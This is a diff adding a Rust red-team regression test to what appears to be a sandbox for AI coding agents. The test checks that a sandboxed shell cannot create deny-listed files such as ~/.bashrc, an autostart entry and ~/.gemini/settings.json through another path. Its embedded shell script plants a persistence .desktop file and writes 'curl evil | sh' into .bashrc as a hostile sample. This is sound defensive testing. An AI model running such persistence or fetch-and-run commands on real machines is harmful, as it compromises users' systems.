@@ -214,3 +214,72 @@ fn redteam26_a_walk_that_could_not_see_the_directory_is_reported_without_a_flag(
         l.clean();
     }
 }
+
+/// What the command tries when the home's deny entries `~/.config/autostart`, `~/.gemini`
+/// (`settings.json`) and `~/.bashrc` do not exist: make them through the mount, by names no
+/// entry lies under and with no identity any walk could meet. Then the same names made in a
+/// directory of its own, which must work.
+const MAKE: &str = r#"
+h="$W/hs/u"
+mkdir -p "$h/.config/autostart" && echo made-autostart
+echo pwned > "$h/.config/autostart/x.desktop" && echo planted-desktop
+mkdir "$h/.gemini" && echo made-gemini
+mkdir "$h/g2" && echo '{}' > "$h/g2/settings.json" && mv -T "$h/g2" "$h/.gemini" && echo renamed-gemini
+echo 'curl evil | sh' > "$h/.bashrc" && echo planted-bashrc
+mkdir -p "$h/proj/.config/autostart" "$h/proj/.gemini" && echo x > "$h/proj/.bashrc" && echo own-names
+true
+"#;
+
+/// Finding 4 (pre-existing since runtime grants walked identities). With the same mount, a
+/// deny entry that does not exist yet was made through it: `mkdir -p
+/// W/hs/u/.config/autostart` and a `.desktop` file in it, `W/hs/u/.gemini` (a directory
+/// or a rename onto that name) and `W/hs/u/.bashrc` — the identity walk has no identity to
+/// meet, and the path is under no entry. Now making the name of a missing entry (or of its
+/// top missing directory) in the directory where it would be, by identity, is refused under
+/// another name; by the entry's own path the checks by name decide, as before.
+/// Control: unsandboxed everything is made; the same names elsewhere are made under nono.
+#[test]
+fn redteam26_a_missing_deny_entry_is_not_made_through_another_name() {
+    let Some(l) = layout("rt26-make") else {
+        return;
+    };
+    std::fs::remove_dir_all(l.home.join(".config/autostart")).unwrap();
+    let control = l.sh_bare(MAKE);
+    for line in [
+        "planted-desktop",
+        "made-gemini",
+        "planted-bashrc",
+        "own-names",
+    ] {
+        assert!(control.contains(line), "control: {control}");
+    }
+    drop(l);
+    let Some(l) = layout("rt26-make") else {
+        return;
+    };
+    std::fs::remove_dir_all(l.home.join(".config/autostart")).unwrap();
+    let r = l.sh_in_nono(MAKE);
+    for line in [
+        "made-autostart",
+        "planted-desktop",
+        "made-gemini",
+        "renamed-gemini",
+        "planted-bashrc",
+    ] {
+        assert!(!r.stdout.contains(line), "{line}: {r}");
+    }
+    assert!(r.stdout.contains("own-names"), "{r}");
+    for made in [".config/autostart", ".gemini", ".bashrc"] {
+        assert!(!l.home.join(made).exists(), "{made}: {r}");
+    }
+    // Reported as the entries' protection.
+    for entry in [".config/autostart", ".gemini/settings.json", ".bashrc"] {
+        let head = format!("nono: denied write of {}", l.home.join(entry).display());
+        assert!(
+            r.stderr
+                .lines()
+                .any(|x| x.starts_with(&head) && x.contains("deny group `")),
+            "{entry}: {r}"
+        );
+    }
+}
